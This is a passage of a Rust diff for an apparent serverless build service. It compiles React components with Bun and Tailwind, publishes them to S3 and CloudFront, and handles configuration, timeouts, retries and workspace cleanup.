+    let page_url = |page: &str| published_page_url(component_id, &prefix, page);
+
+    let mut response_body = json!({
+        "renderUrl": page_url(index_name),
+        "originalUrl": original_url(&origin, &prefix, index_name),
+        "uploaded": summary.uploaded,
+        "skipped": summary.skipped,
+        "files": file_listing(&origin, &prefix, &summary.files)
+    });
+
+    if immutable {
+        response_body["deployHash"] = json!(prefix.rsplit('/').next());
+        response_body["pointerUrl"] = json!(original_url(&origin, &base_prefix, DEPLOY_POINTER));
+    }
+
+    if let Some(status) = invalidation_status {
+        response_body["invalidationStatus"] = json!(status);
+    }
+
+    if let Some(domain) = cloudfront_domain.as_deref() {
+        response_body["assetUrls"] = json!(asset_urls(domain, &prefix, &summary.files));
+    }
+
+    if emit_stats {
+        response_body["statsUrl"] = json!(original_url(&origin, &prefix, STATS_FILE));
+    }
+
+    if !format_files.is_empty() {
+        let format_urls: serde_json::Map<String, serde_json::Value> = format_files
+            .iter()
+            .map(|(format, file_name)| {
+                (
+                    format.as_arg().to_string(),
+                    json!(original_url(&origin, &prefix, file_name)),
+                )
+            })
+            .collect();
+        response_body["formats"] = json!(format_urls);
+    }
+
+    if take_screenshot {
+        response_body["screenshotUrl"] = json!(original_url(&origin, &prefix, SCREENSHOT_FILE));
+    }
+
+    if let Some(version) = version {
+        response_body["version"] = json!(version);
+        response_body["latestUrl"] = json!(original_url(&origin, &latest_prefix, index_name));
+    }
+
+    add_warnings(&mut response_body, &warnings);
+    add_environment(&mut response_body, env_name.as_deref());
+    response_body["coldStart"] = json!(cold_start);
+
+    if data.return_generated.unwrap_or(false) {
+        response_body["generated"] = generated_files(&[
+            ("index.tsx", entry_point.as_str()),
+            (index_name, html_content.as_str()),
+        ]);
+    }
+
+    let sources = data.sources();
+
+    // Advisory only: a package may be used by configuration or at runtime
+    // without ever being imported.
+    if let Some(dependencies) = &data.dependencies {
+        response_body["unusedDependencies"] =
+            json!(unused_dependencies(dependencies.keys(), &sources));
+    }
+
+    if data.report_purged.unwrap_or(false) && has_stylesheet {
+        match fs::read_to_string(out_dir.join("index.css")).await {
+            Ok(css) => {
+                response_body["purgedClasses"] = json!(purged_classes(&sources, &css));
+            }
+            Err(e) => {
+                tracing::warn!(component_id = component_id, error = %e, "Failed to read index.css");
+            }
+        }
+    }
+
+    if !entries.is_empty() {
+        let entry_urls: serde_json::Map<String, serde_json::Value> = entries
+            .iter()
+            .map(|entry| {
+                let page = format!("{}.html", entry.name);
+                (entry.name.clone(), json!(page_url(&page)))
+            })
+            .collect();
+        response_body["entries"] = json!(entry_urls);
+    }
+
+    if !variants.is_empty() {
+        let variant_urls: serde_json::Map<String, serde_json::Value> = variants
+            .iter()
+            .map(|variant| {
+                let page = format!("{}.html", variant.name);
+                (variant.name.clone(), json!(page_url(&page)))
+            })
+            .collect();
+        response_body["viewports"] = json!(variant_urls);
+    }
+
+    let sizes = match BundleSizes::measure(&out_dir).await {
+        Ok(sizes) => sizes,
+        Err(e) => return error_response(500, format!("Failed to measure bundle: {}", e)),
+    };
+
+    match record_sizes(s3_client, &bucket_name, component_id, &sizes).await {
+        Ok(Some(delta)) => response_body["sizeDelta"] = delta,
+        Ok(None) => {}
+        Err(e) => {
+            // The delta is informational; losing it shouldn't fail a build
+            // that has already been published.
+            tracing::warn!(component_id = component_id, error = %e, "Failed to record bundle sizes");
+        }
+    }
+
+    if data.report.unwrap_or(false) {
+        let toolchain = toolchain_versions(bundler.as_ref(), &workspace_dir).await;
+        let report = build_report(&BuildReport {
+            component_id,
+            built_at: &built_at,
+            label: data.label.as_deref(),
+            timings: &progress.timings(),
+            total: started.elapsed(),
+            sizes: &sizes,
+            files: &summary.files,
+            toolchain,
+            warnings: &warnings,
+            logs: &logs,
+        });
+
+        match publish_report(s3_client, &bucket_name, component_id, &report).await {
+            Ok(()) => {
+                response_body["reportUrl"] =
+                    json!(original_url(&origin, component_id, REPORT_FILE));
+            }
+            Err(e) => return error_response(500, format!("Report upload failed: {}", e)),
+        }
+    }
+
+    if data.archive.unwrap_or(false) {
+        tracing::info!(component_id = component_id, "Publishing build archive");
+
+        match publish_archive(s3_client, &bucket_name, &out_dir, &prefix).await {
+            Ok(url) => response_body["archiveUrl"] = json!(url),
+            Err(e) => return error_response(500, format!("Archive upload failed: {}", e)),
+        }
+    }
+
+    workspace_guard.disarm();
+    if let Some(warning) = remove_workspace(&workspace_dir, component_id, trash_grace).await {
+        response_body["cleanupWarning"] = json!(warning);
+    }
+
+    build_response(&response_body, &inputs_etag)
+}
+
+fn build_response(body: &serde_json::Value, inputs_etag: &str) -> Result<Response<Body>, Error> {
+    Response::builder()
+        .status(200)
+        .header("content-type", "application/json")
+        .header(ETAG, inputs_etag)
+        .body(body.to_string().into())
+        .map_err(Box::new)
+        .map_err(Into::into)
+}
+
+/// Moves a finished workspace to the trash, or deletes it when there is no
+/// trash, returning a warning for the response if that failed.
+async fn remove_workspace(
+    workspace_dir: &Path,
+    component_id: &str,
+    trash_grace: Option<Duration>,
+) -> Option<String> {
+    let cleanup = match trash_grace {
+        Some(_) => {
+            move_to_trash(
+                workspace_dir,
+                Path::new(TRASH_DIR),
+                component_id,
+                SystemTime::now(),
+            )
+            .await
+        }
+        None => tokio::fs::remove_dir_all(workspace_dir).await,
+    };
+    let warning = cleanup_warning(cleanup)?;
+    tracing::error!(
+        component_id = component_id,
+        error = %warning,
+        "Failed to cleanup workspace"
+    );
+    Some(warning)
+}
+
+/// Cleans up the workspace when the handler returns before reaching
+/// [`remove_workspace`], so a failed build doesn't leave it on a warm
+/// container's disk. `Drop` can't await, so this uses blocking `std::fs`.
+struct WorkspaceGuard<'a> {
+    workspace_dir: &'a Path,
+    component_id: &'a str,
+    trash_grace: Option<Duration>,
+    armed: bool,
+}
+
+impl WorkspaceGuard<'_> {
+    /// Leaves cleanup to an explicit [`remove_workspace`] call, which can
+    /// report failures in the response.
+    fn disarm(&mut self) {
+        self.armed = false;
+    }
+}
+
+impl Drop for WorkspaceGuard<'_> {
+    fn drop(&mut self) {
+        if !self.armed {
+            return;
+        }
+        let cleanup = match self.trash_grace {
+            Some(_) => std::fs::create_dir_all(TRASH_DIR).and_then(|()| {
+                std::fs::rename(
+                    self.workspace_dir,
+                    trash_entry(Path::new(TRASH_DIR), self.component_id, SystemTime::now()),
+                )
+            }),
+            None => std::fs::remove_dir_all(self.workspace_dir),
+        };
+        if let Some(warning) = cleanup_warning(cleanup) {
+            tracing::error!(
+                component_id = self.component_id,
+                error = %warning,
+                "Failed to cleanup workspace after an early return"
+            );
+        }
+    }
+}
+
+/// Deployment settings for a build, read from the environment. Timeouts,
+/// retry counts and limits all default here, so the handler never reads
+/// `env::var` itself.
+#[derive(Debug, Clone, PartialEq)]
+struct BuildConfig {
+    bucket_name: String,
+    cloudfront_domain: Option<String>,
+    region: String,
+    lambda_task_root: String,
+    max_bundle_bytes: Option<u64>,
+    env_tags: Option<Vec<(String, String)>>,
+    scan_imports: bool,
+    import_denylist: Vec<String>,
+    build_timeout: Duration,
+    copy_attempts: u32,
+    source_key_prefix: String,
+    import_map_cdn: String,
+    shared_react_version: String,
+    max_path_depth: usize,
+    trash_grace: Option<Duration>,
+    screenshot_browser: Option<String>,
+    /// Treat a template without `globals.css` as one that doesn't use
+    /// Tailwind rather than as broken.
+    lenient_stylesheet: bool,
+    /// Distribution whose caches are invalidated after each publish.
+    cloudfront_distribution_id: Option<String>,
+    invalidation_retry: RetryPolicy,
+    /// Deployment name (e.g. `staging`), used to tell apart logs and
+    /// responses from deployments that share an aggregator.
+    env_name: Option<String>,
+    /// `Cache-Control` sent with every handler response.
+    response_cache_control: String,
+    /// How many S3 requests may be in flight at once.
+    s3_max_connections: usize,
+    /// S3-compatible endpoint, such as MinIO or R2, used instead of AWS.
+    s3_endpoint_url: Option<String>,
+    /// Bun, which bundles when it is installed here.
+    bun_bin: PathBuf,
+    /// `npx`, which runs esbuild and the Tailwind CLI where Bun is missing.
+    npx_bin: PathBuf,
+}
+
+impl BuildConfig {
+    fn from_env() -> Result<Self, String> {
+        Self::from_lookup(|name| env::var(name).ok())
+    }
+
+    /// Reads every setting through `var`, which returns a variable's value
+    /// if it is set.
+    fn from_lookup(var: impl Fn(&str) -> Option<String>) -> Result<Self, String> {
+        fn parsed<T: std::str::FromStr>(
+            value: Option<String>,
+            message: &str,
+        ) -> Result<Option<T>, String> {
+            value
+                .map(|v| v.parse::<T>())
+                .transpose()
+                .map_err(|_| message.to_string())
+        }
+        let non_blank = |name| var(name).filter(|value: &String| !value.trim().is_empty());
+
+        Ok(Self {
+            bucket_name: var("S3_BUCKET_NAME").ok_or("S3_BUCKET_NAME not set")?,
+            cloudfront_domain: non_blank("CLOUDFRONT_DOMAIN"),
+            region: var("AWS_REGION").ok_or("AWS_REGION not set")?,
+            lambda_task_root: var("LAMBDA_TASK_ROOT").ok_or("LAMBDA_TASK_ROOT not set")?,
+            max_bundle_bytes: parsed(
+                var("MAX_BUNDLE_BYTES"),
+                "MAX_BUNDLE_BYTES must be a number of bytes",
+            )?,
+            env_tags: var("S3_OBJECT_TAGS")
+                .map(|v| parse_tag_list(&v))
+                .transpose()
+                .map_err(|e| format!("S3_OBJECT_TAGS is invalid: {}", e))?,
+            scan_imports: var("SCAN_IMPORTS").is_some_and(|v| v == "1"),
+            import_denylist: match var("IMPORT_DENYLIST") {
+                Some(list) => list
+                    .split(',')
+                    .map(str::trim)
+                    .filter(|name| !name.is_empty())
+                    .map(String::from)
+                    .collect(),
+                None => DEFAULT_DENYLIST
+                    .iter()
+                    .map(|name| name.to_string())
+                    .collect(),
+            },
+            build_timeout: parsed(
+                var("BUILD_TIMEOUT_SECS"),
+                "BUILD_TIMEOUT_SECS must be a number of seconds",
+            )?
+            .map(Duration::from_secs)
+            .unwrap_or(DEFAULT_BUILD_TIMEOUT),
+            copy_attempts: parsed(
+                var("TEMPLATE_COPY_ATTEMPTS"),
+                "TEMPLATE_COPY_ATTEMPTS must be a number",
+            )?
+            .unwrap_or(DEFAULT_COPY_ATTEMPTS)
+            .max(1),
+            source_key_prefix: var("SOURCE_KEY_PREFIX")
+                .unwrap_or_else(|| DEFAULT_SOURCE_KEY_PREFIX.to_string()),
+            import_map_cdn: var("IMPORT_MAP_CDN")
+                .unwrap_or_else(|| DEFAULT_IMPORT_MAP_CDN.to_string()),
+            shared_react_version: var("SHARED_REACT_VERSION")
+                .unwrap_or_else(|| DEFAULT_SHARED_REACT_VERSION.to_string()),
+            max_path_depth: parsed(var("MAX_PATH_DEPTH"), "MAX_PATH_DEPTH must be a number")?
+                .unwrap_or(DEFAULT_MAX_PATH_DEPTH),
+            trash_grace: parsed(
+                var("WORKSPACE_TRASH_GRACE_SECS"),
+                "WORKSPACE_TRASH_GRACE_SECS must be a number of seconds",
+            )?
+            .map(Duration::from_secs),
+            screenshot_browser: non_blank("SCREENSHOT_BROWSER"),
+            lenient_stylesheet: var("LENIENT_TEMPLATE_STYLESHEET").is_some_and(|v| v == "1"),
+            cloudfront_distribution_id: non_blank("CLOUDFRONT_DISTRIBUTION_ID"),
+            invalidation_retry: RetryPolicy {
+                attempts: parsed(
+                    var("INVALIDATION_ATTEMPTS"),
+                    "INVALIDATION_ATTEMPTS must be a number",
+                )?
+                .unwrap_or(DEFAULT_INVALIDATION_ATTEMPTS)
+                .max(1),
+                backoff: parsed(
+                    var("INVALIDATION_BACKOFF_MS"),
+                    "INVALIDATION_BACKOFF_MS must be a number of milliseconds",
+                )?
+                .map(Duration::from_millis)
+                .unwrap_or(DEFAULT_INVALIDATION_BACKOFF),
+            },
+            env_name: non_blank("ENV_NAME"),
+            response_cache_control: non_blank("RESPONSE_CACHE_CONTROL")
+                .unwrap_or_else(|| DEFAULT_RESPONSE_CACHE_CONTROL.to_string()),
+            s3_max_connections: parsed(
+                var("S3_MAX_CONNECTIONS").map(|v| v.trim().to_string()),
+                "S3_MAX_CONNECTIONS must be a number",
+            )?
+            .unwrap_or(DEFAULT_S3_MAX_CONNECTIONS),
+            s3_endpoint_url: non_blank("S3_ENDPOINT_URL"),
+            bun_bin: PathBuf::from(non_blank("BUN_BIN").unwrap_or_else(|| DEFAULT_BUN_BIN.into())),
+            npx_bin: PathBuf::from(non_blank("NPX_BIN").unwrap_or_else(|| DEFAULT_NPX_BIN.into())),
+        })
+    }
+}
+
+/// Configuration loaded by the first invocation that finds it valid; the
+/// environment doesn't change for the life of the container.
+static BUILD_CONFIG: std::sync::OnceLock<BuildConfig> = std::sync::OnceLock::new();
+
+fn build_config() -> Result<&'static BuildConfig, String> {
+    if let Some(config) = BUILD_CONFIG.get() {
+        return Ok(config);
+    }
+
+    let config = BuildConfig::from_env()?;
+    Ok(BUILD_CONFIG.get_or_init(|| config))
+}
+
+/// Identifies a build by the exact request that produced it, as a quoted
+/// entity tag.
+fn inputs_etag(body: &[u8]) -> String {
+    format!("\"{}\"", etag_of(body))
+}
+
+/// Whether the client's `If-None-Match` already names these inputs, in which
+/// case the build it has cached is still current.
+fn is_not_modified(event: &Request, etag: &str) -> bool {
+    let Some(header) = event
+        .headers()
+        .get(IF_NONE_MATCH)
+        .and_then(|value| value.to_str().ok())
+    else {
+        return false;
+    };
+
+    header
+        .split(',')
+        .map(|tag| tag.trim().trim_start_matches("W/"))
+        .any(|tag| tag == etag)
+}
+
+fn not_modified_response(etag: &str) -> Result<Response<Body>, Error> {
+    Response::builder()
+        .status(304)
+        .header(ETAG, etag)
+        .body(Body::Empty)
+        .map_err(Box::new)
+        .map_err(Into::into)
+}
+
+/// Set by the first invocation this container handles.
+static INVOKED: std::sync::OnceLock<()> = std::sync::OnceLock::new();
+
+/// Whether this is the container's first invocation, which paid for the
+/// runtime's start-up as well as the build.
+fn is_cold_start() -> bool {
+    INVOKED.set(()).is_ok()
+}
+
+/// How many S3 requests may be in flight at once unless `S3_MAX_CONNECTIONS`
+/// says otherwise.
+const DEFAULT_S3_MAX_CONNECTIONS: usize = 32;
+
+/// Creates the object store a container's invocations share.
+trait Connect {
+    type Store: ObjectStore;
+
+    async fn connect(&self, config: &BuildConfig) -> Self::Store;
+}
+
+/// Connects to S3, or to the S3-compatible store `S3_ENDPOINT_URL` names.
+struct S3Connector;
+
+impl Connect for S3Connector {
+    type Store = Client;
+
+    async fn connect(&self, config: &BuildConfig) -> Client {
+        let sdk_config = aws_config::load_defaults(aws_config::BehaviorVersion::latest()).await;
+        let s3_config = s3_config(
+            &sdk_config,
+            config.s3_endpoint_url.as_deref(),
+            &config.bucket_name,
+        );
+        Client::from_conf(s3_config)
+    }
+}
+
+/// An object store shared by every invocation in the container, connected
+/// by the first one that needs it, so credentials and configuration are
+/// only resolved on a cold start and every upload draws on the same bounded
+/// pool of connections.
+struct SharedStore<C: Connect> {
+    connector: C,
+    store: OnceCell<Pooled<C::Store>>,
+}
+
+impl<C: Connect> SharedStore<C> {
+    const fn new(connector: C) -> Self {
+        Self {
+            connector,
+            store: OnceCell::const_new(),
+        }
+    }
+
+    async fn get(&self, config: &BuildConfig) -> &Pooled<C::Store> {
+        self.store
+            .get_or_init(|| async {
+                let store = self.connector.connect(config).await;
+                Pooled::new(store, config.s3_max_connections)
+            })
+            .await
+    }
+}
+
+static S3_STORE: SharedStore<S3Connector> = SharedStore::new(S3Connector);
+
+/// CloudFront client for invalidations, created on first use.
+static CLOUDFRONT_CLIENT: OnceCell<aws_sdk_cloudfront::Client> = OnceCell::const_new();
+
+async fn cloudfront_client() -> &'static aws_sdk_cloudfront::Client {
+    CLOUDFRONT_CLIENT
+        .get_or_init(|| async {
+            let sdk_config = aws_config::load_defaults(aws_config::BehaviorVersion::latest()).await;
+            aws_sdk_cloudfront::Client::new(&sdk_config)
+        })
+        .await
+}
+
+/// Invalidates `paths` once the build is published, returning the
+/// `invalidationStatus` to report. The build is already live by then, so an
+/// invalidation CloudFront keeps refusing only leaves edges serving the old
+/// copy until it expires: it is `deferred`, not a failed build.
+async fn invalidate_paths<I: Invalidator>(
+    cdn: &I,
+    distribution_id: &str,
+    paths: &[String],
+    component_id: &str,
+    policy: RetryPolicy,
+) -> &'static str {
+    let millis = SystemTime::now()
+        .duration_since(UNIX_EPOCH)
+        .unwrap_or_default()
+        .as_millis();
+    let caller_reference = format!("{}-{}", component_id, millis);
+
+    match invalidate_with_retries(cdn, distribution_id, paths, &caller_reference, policy).await {
+        Ok(()) => "submitted",
+        Err(e) => {
+            tracing::warn!(
+                component_id = component_id,
+                error = %e,
+                "CloudFront invalidation failed; deferring to cache expiry"
+            );
+            "deferred"
+        }
+    }
+}
+
+/// S3 client configuration. With `endpoint_url` (from `S3_ENDPOINT_URL`) the
+/// client talks to an S3-compatible store such as MinIO or R2 instead, using
+/// path-style addressing since those rarely serve bucket subdomains. A dotted
+/// `bucket_name` gets path-style addressing on AWS too.
+fn s3_config(
+    sdk_config: &aws_config::SdkConfig,
+    endpoint_url: Option<&str>,
+    bucket_name: &str,
+) -> aws_sdk_s3::Config {
+    let mut builder = aws_sdk_s3::config::Builder::from(sdk_config);
+    if let Some(endpoint_url) = endpoint_url {
+        builder = builder.endpoint_url(endpoint_url).force_path_style(true);
+    } else if needs_path_style(bucket_name) {
+        builder = builder.force_path_style(true);
+    }
+    builder.build()
+}
+
+/// Checks once per cold start that the configured bucket exists, so a
+/// misconfigured `S3_BUCKET_NAME` shows up in the logs before any build runs.
+pub(crate) async fn startup_bucket_check() {
+    let config = match build_config() {
+        Ok(config) => config,
+        Err(e) => {
+            tracing::error!(error = %e, "Invalid configuration");
+            return;
+        }
+    };
+
+    let s3_client = S3_STORE.get(config).await;
+
+    if let Err(e) = verify_bucket(s3_client, &config.bucket_name).await {
+        tracing::error!(bucket = %config.bucket_name, error = %e, "Bucket check failed");
+    }
+}
+
+async fn verify_bucket<S: ObjectStore>(store: &S, bucket_name: &str) -> Result<(), Error> {
+    if !store.bucket_exists(bucket_name).await? {
+        return Err(NoSuchBucket(bucket_name.to_string()).into());
+    }
+
+    Ok(())
+}
+
+/// A missing bucket gets its own message instead of the SDK's generic one.
+fn upload_failure_message(err: &Error) -> String {
+    if let Some(missing) = err.downcast_ref::<NoSuchBucket>() {
+        return missing.to_string();
+    }
+    if let Some(mismatch) = err.downcast_ref::<ChecksumMismatch>() {
+        return mismatch.to_string();
+    }
+    format!("Upload failed: {}", err)
+}
+
+/// Least time left in the invocation for a phase to be started; with less,
+/// Lambda would likely kill the build partway through it.
+const MIN_PHASE_TIME: Duration = Duration::from_secs(10);
+
+/// When Lambda will end this invocation, from its context. `None` outside
+/// Lambda, where nothing enforces a deadline.
+fn invocation_deadline(event: &Request) -> Option<SystemTime> {
+    let context = event.lambda_context_ref()?;
+    Some(UNIX_EPOCH + Duration::from_millis(context.deadline))
+}
+
+/// Fails with a 504 when a phase starting at `now` wouldn't have
+/// [`MIN_PHASE_TIME`] before `deadline`.
+fn check_deadline(deadline: Option<SystemTime>, now: SystemTime) -> Result<(), StepFailure> {
+    let Some(deadline) = deadline else {
+        return Ok(());
+    };
+
+    if deadline.duration_since(now).unwrap_or_default() < MIN_PHASE_TIME {
+        return Err(StepFailure {
+            status: 504,
+            message: "insufficient time remaining".to_string(),
+            code: Some("deadline_exceeded"),
+        });
+    }
+
+    Ok(())
+}
+
+/// A build step that didn't succeed, with the status to report it under.
+#[derive(Debug)]
+struct StepFailure {
+    status: u16,
+    message: String,
+    /// Machine-readable reason, sent as `x-error-code`, for failures clients
+    /// should handle specially.
+    code: Option<&'static str>,
+}
+
+impl StepFailure {
+    fn into_response(self) -> Result<Response<Body>, Error> {
+        let mut response = error_response(self.status, self.message)?;
+        if let Some(code) = self.code {
+            response
+                .headers_mut()
+                .insert("x-error-code", HeaderValue::from_static(code));
+        }
+        Ok(response)
+    }
+}
+
+/// Exit status of a process killed with SIGKILL, as reported by a shell.
+const SIGKILL_EXIT_CODE: i32 = 128 + 9;
+
+/// The Lambda sandbox has no OOM message to show: a step killed outright
+/// (SIGKILL or exit 137) without writing anything to stderr ran out of memory.
+fn is_out_of_memory(output: &Output) -> bool {
+    #[cfg(unix)]
+    let killed = {
+        use std::os::unix::process::ExitStatusExt;
+        output.status.signal() == Some(9)
+    };
+    #[cfg(not(unix))]
+    let killed = false;
+
+    (killed || output.status.code() == Some(SIGKILL_EXIT_CODE))
+        && output.stderr.iter().all(u8::is_ascii_whitespace)
+}
+
+/// Runs a toolchain command. Failing to spawn it is a server fault (500),
+/// while a non-zero exit means the user's code didn't build (422).
+///
+/// The command runs in its own process group so that, if it outlives
+/// `timeout`, Bun and anything it spawned are killed together instead of
+/// lingering in the warm container.
+async fn run_build_step(
+    name: &str,
+    command: &mut Command,
+    timeout: Duration,
+) -> Result<Output, StepFailure> {
+    command
+        .stdout(Stdio::piped())
+        .stderr(Stdio::piped())
+        .kill_on_drop(true);
+    #[cfg(unix)]
+    command.process_group(0);
+
+    let child = command.spawn().map_err(|e| StepFailure {
+        status: 500,
+        message: format!("Failed to execute {}: {}", name, e),
+        code: None,
+    })?;
+    let pid = child.id();
+
+    let output = match tokio::time::timeout(timeout, child.wait_with_output()).await {
+        Ok(result) => result.map_err(|e| StepFailure {
+            status: 500,
+            message: format!("Failed to execute {}: {}", name, e),
+            code: None,
+        })?,
+        Err(_) => {
+            if let Some(pid) = pid {
+                kill_process_group(pid);
+            }
+            return Err(StepFailure {
+                status: 504,
+                message: format!("{} timed out after {}s", name, timeout.as_secs_f32()),
+                code: None,
+            });
+        }
+    };
+
+    if is_out_of_memory(&output) {
+        return Err(StepFailure {
+            status: 500,
+            message: "build ran out of memory; increase Lambda memory".to_string(),
+            code: Some("out_of_memory"),
+        });
+    }
+
+    if !output.status.success() {
+        let stderr = String::from_utf8_lossy(&output.stderr);
+        return Err(StepFailure {
+            status: 422,
+            message: format!("{} failed: {}", name, stderr),
+            code: None,
+        });
+    }
+
+    Ok(output)
+}
+
+/// Phrases `bun x` prints when the Tailwind CLI package can't be resolved.
+const MISSING_PACKAGE_ERRORS: &[&str] = &[
+    "could not determine executable to run",
+    "command not found",
+    "cannot find package",
+    "cannot find module",
+];
+
+/// A Tailwind step that failed because the CLI isn't installed is the
+/// template's fault, not the user's CSS, so it's reported as a 500.
+fn missing_tailwind_failure(failure: StepFailure) -> StepFailure {
+    let message = failure.message.to_ascii_lowercase();
+    let missing = failure.status == 422
+        && message.lines().any(|line| {
+            (line.contains("tailwindcss") || line.contains("@tailwindcss/cli"))
+                && MISSING_PACKAGE_ERRORS
+                    .iter()
+                    .any(|phrase| line.contains(phrase))
+        });
+
+    if !missing {
+        return failure;
+    }
+
+    tracing::error!(message = %failure.message, "Tailwind CLI is missing from the template");
+    StepFailure {
+        status: 500,
+        message: "server misconfigured: the Tailwind CLI is not installed in the template"
+            .to_string(),
+        code: Some("tailwind_missing"),
+    }
+}
+
+/// Writes the component and its script files to `lint_dir` and has Bun
+/// transpile each one, returning what it reported. Bun's exit status only
+/// says whether there were errors, which the diagnostics already show.
+/// `lint_dir` is removed afterwards.
+async fn lint_component(
+    bun_bin: &Path,
+    lint_dir: &Path,
+    code: &str,
+    files: &[SourceFile],
+    timeout: Duration,
+) -> Result<Vec<Diagnostic>, StepFailure> {
+    let failure = |status, message| StepFailure {
+        status,
+        message,
+        code: None,
+    };
+
+    let lint = async {
+        create_dir_all(lint_dir)
+            .await
+            .map_err(|e| failure(500, format!("Failed to create lint workspace: {}", e)))?;
+        write_workspace_file(&lint_dir.join("UserComponent.tsx"), code)
+            .await
+            .map_err(|error| failure(500, error.message))?;
+
+        let mut sources = vec!["UserComponent.tsx".to_string()];
+        for file in files {
+            let path = contained_path(lint_dir, &file.path)
+                .await
+                .map_err(|message| failure(400, message))?;
+            if let Some(parent) = path.parent() {
+                create_dir_all(parent).await.map_err(|e| {
+                    failure(500, format!("Failed to create {}: {}", parent.display(), e))
+                })?;
+            }
+            write_workspace_file(&path, &file.content)
+                .await
+                .map_err(|error| failure(500, error.message))?;
+            if is_linted(&file.path) {
+                sources.push(file.path.clone());
+            }
+        }
+
+        let mut command = Command::new(bun_bin);
+        command.args(lint_args(&sources)).current_dir(lint_dir);
+        let output = match run_build_step("Lint", &mut command, timeout).await {
+            Ok(output) => String::from_utf8_lossy(&output.stderr).into_owned(),
+            Err(failure) if failure.status == 422 => failure
+                .message
+                .trim_start_matches("Lint failed: ")
+                .to_string(),
+            Err(failure) => return Err(failure),
+        };
+        Ok(parse_diagnostics(&output, lint_dir))
+    };
+    let result = lint.await;
+
+    if let Err(e) = fs::remove_dir_all(lint_dir).await {
+        tracing::warn!(error = %e, "Failed to remove lint workspace");
+    }
+    result
+}
+
+/// A Tailwind compile of the workspace's `src/globals.css` into
+/// `dist/index.css`.
+struct CssBuild<'a> {
+    /// Runs the Tailwind CLI through [`Bundler::exec_args`].
+    runner: &'a (dyn Bundler + Send + Sync),
+    workspace_dir: &'a Path,
+    /// Requested major version; the template's installed one otherwise.
+    tailwind_version: Option<&'a str>,
+    safelist: &'a [String],
+    timeout: Duration,
+    fail_on_warnings: bool,
+}
+
+/// Runs the Tailwind CLI for `build`, returning its warnings and, for the
+/// build report, its output.
+async fn compile_css(build: &CssBuild<'_>) -> Result<(Vec<String>, String), StepFailure> {
+    let input_path = build.workspace_dir.join("src/globals.css");
+    let output_path = build.workspace_dir.join("dist/index.css");
+    let installed = installed_version(build.workspace_dir).await;
+    let requested = build.tailwind_version.and_then(TailwindVersion::parse);
+
+    if let (Some(requested), Some(installed)) = (requested, installed) {
+        if requested != installed {
+            tracing::warn!(
+                requested = ?requested,
+                installed = ?installed,
+                "Requested Tailwind version differs from the template's"
+            );
+        }
+    }
+
+    let version = requested.or(installed).unwrap_or(TailwindVersion::V4);
+
+    let config = apply_safelist(version, build.workspace_dir, &input_path, build.safelist)
+        .await
+        .map_err(|message| StepFailure {
+            status: 500,
+            message,
+            code: None,
+        })?;
+
+    let mut command = Command::new(build.runner.program());
+    command
+        .args(build.runner.exec_args())
+        .args(version.args(&input_path, &output_path, config))
+        .current_dir(build.workspace_dir);
+
+    let output = run_build_step("Tailwind build", &mut command, build.timeout)
+        .await
+        .map_err(missing_tailwind_failure)?;
+    let warnings = check_warnings("Tailwind build", &output, build.fail_on_warnings)?;
+    Ok((warnings, step_log(&output)))
+}
+
+/// The `css-only` build: compiles the stylesheet and publishes `index.css`
+/// alone under `prefix`. Nothing is bundled; the runner only runs the
+/// Tailwind CLI.
+async fn publish_css_only<S: ObjectStore>(
+    store: &S,
+    bucket: &str,
+    build: &CssBuild<'_>,
+    prefix: &str,
+    options: &UploadOptions,
+) -> Result<(UploadSummary, Vec<String>), StepFailure> {
+    let (warnings, _) = compile_css(build).await?;
+
+    let css_dir = build.workspace_dir.join("css-only");
+    let upload_failure = |message: String| StepFailure {
+        status: 500,
+        message,
+        code: None,
+    };
+    create_dir_all(&css_dir)
+        .await
+        .map_err(|e| upload_failure(format!("Failed to create css-only directory: {}", e)))?;
+    fs::rename(
+        build.workspace_dir.join("dist/index.css"),
+        css_dir.join("index.css"),
+    )
+    .await
+    .map_err(|e| upload_failure(format!("Tailwind wrote no index.css: {}", e)))?;
+
+    let summary = upload_dir(store, bucket, &css_dir, prefix, options)
+        .await
+        .map_err(|e| upload_failure(upload_failure_message(&e)))?;
+    Ok((summary, warnings))
+}
+
+/// Kills every process in the group led by `pid`, including grandchildren
+/// that were never visible to us as a `Child`.
+#[cfg(unix)]
+fn kill_process_group(pid: u32) {
+    // SAFETY: killpg has no memory-safety preconditions; at worst the group
+    // is already gone and the call fails with ESRCH.
+    let result = unsafe { libc::killpg(pid as libc::pid_t, libc::SIGKILL) };
+    if result != 0 {
+        tracing::warn!(
+            pid = pid,
+            error = %std::io::Error::last_os_error(),
+            "Failed to kill build process group"
+        );
+    }
+}
+
+#[cfg(not(unix))]
+fn kill_process_group(_pid: u32) {}
+
+/// Copies the templates directory to `/tmp/templates`.
+async fn copy_templates(templates_path: &Path) -> Result<(), WorkspaceError> {
+    let output = Command::new("cp")
+        .arg("-r")
+        .arg(templates_path)
+        .arg("/tmp/")
+        .output()
+        .await
+        .map_err(|e| WorkspaceError::io(format!("Failed to execute cp command: {}", e), e))?;
+
+    if !output.status.success() {
+        let error_msg = String::from_utf8_lossy(&output.stderr);
+        let message = format!("cp command failed: {}", error_msg);
+        // `cp` only reports the errno as its message, so that is all there
+        // is to recover it from.
+        if error_msg.contains(CP_STORAGE_FULL_TEXT) {
+            let source = std::io::Error::from_raw_os_error(libc::ENOSPC);
+            return Err(WorkspaceError::io(message, source));
+        }
+        return Err(message.into());
+    }
+
+    Ok(())
+}
+
+/// Runs `operation` up to `attempts` times, waiting `delay` between tries, for
+/// steps that can fail transiently on a busy warm container. The last error
+/// is returned once every attempt has failed.
+async fn with_retries<T, E, F, Fut>(
+    name: &str,
+    attempts: u32,
+    delay: Duration,
+    mut operation: F,
+) -> Result<T, E>
+where
+    E: fmt::Display,
+    F: FnMut() -> Fut,
+    Fut: std::future::Future<Output = Result<T, E>>,
+{
+    let mut attempt = 1;
+    loop {
+        match operation().await {
+            Ok(value) => return Ok(value),
+            Err(message) if attempt < attempts => {
+                tracing::warn!(step = name, attempt = attempt, error = %message, "Retrying");
+                attempt += 1;
+                tokio::time::sleep(delay).await;
+            }
+            Err(message) => return Err(message),
+        }
+    }
+}
+
+/// Moves `from` to `to`. A warm container may still hold the workspace of an
+/// earlier build with the same id, which `rename` refuses to replace, so any
+/// existing directory is removed first.
+async fn replace_dir(from: &Path, to: &Path) -> std::io::Result<()> {
+    match fs::rename(from, to).await {
+        Err(e)
+            if matches!(
+                e.kind(),
+                std::io::ErrorKind::AlreadyExists | std::io::ErrorKind::DirectoryNotEmpty
+            ) =>
+        {
+            tracing::warn!(path = %to.display(), "Replacing leftover workspace");
+            fs::remove_dir_all(to).await?;
